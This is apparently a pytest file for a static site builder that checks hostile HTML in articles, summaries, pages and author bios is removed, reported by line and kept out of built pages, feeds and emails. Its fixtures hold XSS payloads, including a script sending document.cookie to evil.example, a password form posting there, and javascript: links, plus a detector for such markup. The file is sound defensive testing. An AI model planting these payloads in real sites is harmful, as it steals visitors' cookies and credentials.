"""Hostile HTML in an article, its Summary, a page and a bio: named file:line, and inert on
every page, feed and email of the built site."""

import json
import logging
import re

import feedparser
import pytest
from bs4 import BeautifulSoup
from search_site import is_search_script

from blog_core import BuildStopped
from sitebuild import STRICT, build_site, write_article, write_bio, write_default_bio

GUEST_POST = """\
Un paragrafo normale, con un [link sicuro](https://www.esempio.it/).

<script>document.location = "https://evil.example/?c=" + document.cookie</script>

<iframe src="https://evil.example/" srcdoc="<script>alert(1)</script>"></iframe>

Un [link](javascript:alert(3)) e <a href="#" onclick="rubare()">un altro</a>.

<form action="https://evil.example/login"><input type="password" name="p"></form>

<meta http-equiv="refresh" content="0;url=https://evil.example/">
"""
HOSTILE_SUMMARY = (
    'Un riassunto <img src="https://www.esempio.it/x.png" alt="x" onerror="alert(1)"> '
    "[qui](javascript:alert(2))"
)
# (line, message start) the build names for the guest post, in its order; line 5 is Summary.
GUEST_PROBLEMS = [
    (10, "«<script>» è stato tolto: negli articoli non si eseguono programmi."),
    (
        12,
        "«<iframe>» è stato tolto: il sito non carica dentro le sue pagine contenuti di altri "
        "siti.",
    ),
    (14, "l'indirizzo «javascript:alert(3)» è stato tolto:"),
    (14, "l'attributo «onclick» di «<a>» è stato tolto: fa eseguire un programma"),
    (16, "«<form>» è stato tolto: un articolo non può raccogliere dati con un modulo."),
    (16, "«<input>» è stato tolto:"),
    (18, "«<meta>» è stato tolto: cambierebbe l'aspetto o gli indirizzi di tutta la pagina"),
    (5, "l'attributo «onerror» di «<img>» è stato tolto"),
    (5, "l'indirizzo «javascript:alert(2)» è stato tolto:"),
]


@pytest.fixture
def hostile(small_content):
    write_default_bio(small_content)
    write_article(
        small_content,
        "ospite.md",
        title="Un articolo ospite",
        body=GUEST_POST,
        summary=HOSTILE_SUMMARY,
        date="2026-03-02 09:00",
    )
    (small_content / "pages" / "chi-siamo.md").write_text(
        'Title: Chi siamo\n\nSiamo una bottega.\n\n<base href="https://evil.example/">\n',
        encoding="utf-8",
    )
    write_bio(
        small_content,
        "luca-bianchi",
        {"Name": "Luca Bianchi"},
        body='Formatore. <img src="https://www.esempio.it/a.png" alt="a" onload="alert(1)">\n',
    )
    return small_content


def problems_of(site, name):
    lines = []
    for record in site.log_records:
        message = record.getMessage()
        if record.levelno >= logging.WARNING and f"/{name}:" in message:
            lines.append(message.split(f"/{name}:", 1)[1])
    return lines


def test_each_removal_is_named_with_its_line_and_the_preview_shows_the_clean_page(
    tmp_path, hostile
):
    site = build_site(tmp_path / "output", content=hostile)
    found = problems_of(site, "articles/ospite.md")
    assert len(found) == len(GUEST_PROBLEMS), found
    for (line, start), message in zip(GUEST_PROBLEMS, found, strict=True):
        assert message.startswith(f"{line}: {start}"), message
    assert problems_of(site, "pages/chi-siamo.md") == [
        "5: «<base>» è stato tolto: cambierebbe l'aspetto o gli indirizzi di tutta la pagina, "
        "che li prende dal tema. Scrivi il testo in Markdown."
    ]
    (bio,) = problems_of(site, "authors/luca-bianchi.md")
    assert bio.startswith("3: l'attributo «onload» di «<img>» è stato tolto")
    # The page is there, without what was taken out.
    body = site.soup("/un-articolo-ospite/").select_one(".article__body").get_text(" ")
    assert "Un paragrafo normale" in body and "document.cookie" not in body


def test_the_publish_build_stops_on_each_of_them(tmp_path, hostile):
    with pytest.raises(BuildStopped) as stopped:
        build_site(tmp_path / "output", content=hostile, **STRICT)
    for line, start in GUEST_PROBLEMS:
        assert f"articles/ospite.md:{line}: {start}" in stopped.value.code


DANGEROUS_URL = re.compile(r"^\s*(javascript|data|vbscript):", re.IGNORECASE)
LIVE_ELEMENTS = ["iframe", "object", "embed", "base", "form", "input", "applet"]


def dangers_in_html(text, where=None):
    soup = BeautifulSoup(text, "lxml")
    found = [f"<{tag.name}>" for tag in soup.find_all(LIVE_ELEMENTS)]
    for script in soup.find_all("script"):
        if is_search_script(where, script):
            continue
        if script.get("type") != "application/ld+json":
            found.append("<script>")
        else:
            json.loads(script.string)
    # The theme's own <meta http-equiv="Content-Security-Policy"> is on every page.
    refresh = re.compile("^refresh$", re.IGNORECASE)
    found += ["meta refresh" for meta in soup.find_all("meta", attrs={"http-equiv": refresh})]
    for tag in soup.find_all(True):
        for name, value in tag.attrs.items():
            if name.startswith("on"):
                found.append(f"{tag.name} {name}")
            if isinstance(value, str) and DANGEROUS_URL.match(value):
                found.append(f"{tag.name} {name}={value}")
    return found


def test_nothing_hostile_reaches_a_page_a_feed_or_an_email(tmp_path, hostile):
    site = build_site(tmp_path / "output", content=hostile)
    found = {}
    for file in site.output.rglob("*"):
        if file.suffix == ".html":
            where = file.relative_to(site.output).as_posix()
            dangers = dangers_in_html(file.read_text(encoding="utf-8"), where)
            # The signup form is the theme's own, on the site's pages (never in the emails).
            if file.name != "email.html":
                dangers = [d for d in dangers if d not in ("<form>", "<input>")]
        elif file.suffix == ".xml" and file.name != "sitemap.xml":
            feed = feedparser.parse(file.read_bytes())
            assert not feed.bozo, file
            dangers = [
                danger
                for entry in feed.entries
                for part in (entry.get("summary", ""), *(c.value for c in entry.get("content", [])))
                for danger in dangers_in_html(part)
            ]
        elif file.suffix == ".txt":
            text = file.read_text(encoding="utf-8")
            dangers = [word for word in ("javascript:", "onerror", "<script") if word in text]
        else:
            continue
        if dangers:
            found[file.relative_to(site.output).as_posix()] = dangers
    assert found == {}
